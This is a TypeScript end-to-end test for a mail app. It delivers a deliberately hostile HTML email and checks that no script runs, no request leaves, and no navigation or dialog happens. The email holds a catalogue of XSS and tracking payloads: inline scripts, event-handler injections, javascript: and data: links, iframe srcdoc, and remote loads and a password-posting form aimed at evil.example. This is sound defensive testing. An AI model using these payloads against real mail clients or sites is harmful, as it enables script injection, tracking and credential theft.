import type { Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { startDovecot, type Dovecot } from '#tests/servers/dovecot.ts';
import { launchLoopbackApp, type LoopbackApp } from '#tests/support/launchApp.ts';
import { makeMailSource } from '#tests/support/makeMailSource.ts';
import { openHarness } from '#tests/support/openHarness.ts';
import { saveWorldAccount, unlock } from '#tests/support/setUpCapture.ts';
import { shootFailures } from '#tests/support/shootFailures.ts';
import { createCandidatesPage } from './pages/candidatesPage.ts';
import { createTimelinePage } from './pages/timelinePage.ts';

// A mail that tries everything a mail can try, from a real server into the real app. No request may leave, no script may
// run, no window or dialog may open, and the app may not be led elsewhere.

const SENDER = 'mallory@evil.example';
const SUBJECT = 'An offer you cannot refuse';
const EVIL = 'https://evil.example';
const OWNED = "document.title='owned';window.owned=1;alert('owned')";

const HTML = `<!doctype html><html><head>
<base href="${EVIL}/base/">
<meta http-equiv="refresh" content="0; url=${EVIL}/refresh">
<link rel="stylesheet" href="${EVIL}/style.css"><link rel="preconnect" href="${EVIL}"><link rel="prefetch" href="${EVIL}/next">
<style>@import "${EVIL}/import.css"; @font-face { font-family: f; src: url(${EVIL}/font.woff2) } p { font-family: f; background: url(${EVIL}/bg.png) }
body { position: fixed; inset: 0 }</style>
<script>${OWNED}</script><script src="${EVIL}/script.js"></script></head>
<body background="${EVIL}/body.png" onload="${OWNED}">
<p onclick="${OWNED}" onmouseover="${OWNED}">Text that is shown.</p>
<img src="${EVIL}/pixel.png" width="1" height="1" onerror="${OWNED}"><img src="x" onerror="${OWNED}">
<img srcset="${EVIL}/set.png 2x"><picture><source srcset="${EVIL}/source.webp"><img alt="picture"></picture>
<svg onload="${OWNED}"><image href="${EVIL}/svg.png"/><script>${OWNED}</script></svg>
<iframe src="${EVIL}/frame"></iframe><iframe srcdoc="<script>parent.${OWNED}</script>"></iframe>
<object data="${EVIL}/object"></object><embed src="${EVIL}/embed"><video src="${EVIL}/video" autoplay></video><audio src="${EVIL}/audio" autoplay></audio>
<form action="${EVIL}/form" method="post"><input name="password" autofocus onfocus="${OWNED}"><button>Send it</button></form>
<a href="javascript:${OWNED}">A link that is a script</a>
<a href="data:text/html,<script>${OWNED}</script>">A link that is a page</a>
<div style="position:fixed;top:0;left:0;width:100vw;height:100vh;background:url(${EVIL}/cover.png)">over everything</div>
<template><img src="${EVIL}/template.png"></template><noscript><img src="${EVIL}/noscript.png"></noscript>
<math><mtext><img src="${EVIL}/math.png" onerror="${OWNED}"></mtext></math>
<table>${'<tr>' + '<td>cell</td>'.repeat(40) + '</tr>'}${`<tr>${'<td>cell</td>'.repeat(40)}</tr>`.repeat(400)}</table>
${'<div>'.repeat(3_000)}deep${'</div>'.repeat(3_000)}
<p>The last line.</p></body></html>`;

let dovecot: Dovecot;
let app: LoopbackApp;
let page: Page;
const events: string[] = [];

beforeAll(async () => {
  dovecot = await startDovecot();
  dovecot.deliver('INBOX', [
    {
      source: makeMailSource({
        from: SENDER,
        to: dovecot.user,
        subject: SUBJECT,
        atMs: Date.now() - 86_400_000,
        text: 'Text that is shown.',
        html: HTML,
      }),
    },
  ]);
  app = await launchLoopbackApp({ withHarness: true });
  page = app.page();
  page.setDefaultTimeout(30_000);
  await unlock(app);
  const harness = await openHarness(app);
  const fields = { title: '', company: '', location: '' };
  await harness.store('candidates.save', { candidateId: null, name: 'Mallory', addresses: [SENDER], ...fields });
  await saveWorldAccount(harness, dovecot);
  await harness.close();
  const { context } = app.browser();
  context.on('request', (request) => {
    const url = request.url();
    if (!/^(?:http|ws):\/\/rapport\.localhost\//.test(url) && !/^(?:data|blob|about):/.test(url))
      events.push(`request ${url}`);
  });
  context.on('page', (opened) => events.push(`page ${opened.url()}`));
  page.on('dialog', (dialog) => {
    events.push(`dialog ${dialog.message()}`);
    void dialog.dismiss();
  });
  page.on('framenavigated', (frame) => {
    const url = frame.url();
    if (!url.startsWith('http://rapport.localhost/') && url !== 'about:srcdoc' && url !== 'about:blank')
      events.push(`navigation ${url}`);
  });
  // Nothing is really asked of the network, whatever the outcome.
  await context.route(`${EVIL}/**`, (route) => route.fulfill({ status: 200, body: '' }));
});
shootFailures(() => page);
afterAll(async () => {
  await app.close();
  await dovecot.destroy();
});

const frame = () => page.getByTitle(`Mail: ${SUBJECT}`).contentFrame();

async function expectUnharmed(): Promise<void> {
  expect(await page.evaluate(() => 'owned' in window)).toBe(false);
  // Named after the profile that the mail is read in, and not by the mail.
  expect(await page.title()).toBe('Candidates · Rapport');
}

describe('a mail that tries everything', () => {
  it('is shown, and nothing that it tries happens', async () => {
    await page.reload();
    await createCandidatesPage(page).open('Mallory');
    const timeline = createTimelinePage(page);
    await timeline.entry(new RegExp(SUBJECT)).click();
    // With a table of thousands of cells it is shown as text first.
    await timeline.region.getByText('This mail is unusually large').waitFor();
    await timeline.region.getByText('As sent', { exact: true }).click();
    await frame().getByText('Text that is shown.').hover();
    await frame().getByText('The last line.').scrollIntoViewIfNeeded();
    await frame().getByText('A link that is a script').click();
    await frame().getByText('A link that is a page').click();
    expect(await frame().getByRole('button', { name: 'Send it' }).count()).toBe(0);
    await timeline.region.getByText(/\d+ remote items blocked/).waitFor();
    expect(events).toEqual([]);
    await expectUnharmed();
  });

  it('gets its images when they are asked for, and nothing else', async () => {
    const timeline = createTimelinePage(page);
    const image = app.browser().context.waitForEvent('request', (request) => request.url().startsWith(`${EVIL}/`));
    await timeline.region.getByRole('button', { name: 'Show remote images' }).click();
    expect((await image).resourceType()).toBe('image');
    await frame().getByText('Text that is shown.').hover();
    await frame().getByText('A link that is a script').click();
    await frame().getByText('The last line.').scrollIntoViewIfNeeded();
    expect(events.filter((event) => !/^request https:\/\/evil\.example\/[\w-]+\.(?:png|webp)$/.test(event))).toEqual(
      [],
    );
    await expectUnharmed();
    await timeline.region.getByRole('button', { name: 'Block again' }).click();
  });

  it('leaves the rest of the app as it was', async () => {
    const timeline = createTimelinePage(page);
    await timeline.region.getByText('Plain text', { exact: true }).click();
    await timeline.region.getByText('Text that is shown.').last().waitFor();
    await page.getByRole('main').focus();
    await page.keyboard.press('n');
    await page.getByRole('dialog', { name: 'Log with Mallory' }).waitFor();
    await page.keyboard.type('Tries things.');
    await page.keyboard.press('Control+Enter');
    await timeline.entry(/Note.*Tries things\./).waitFor();
  });
});
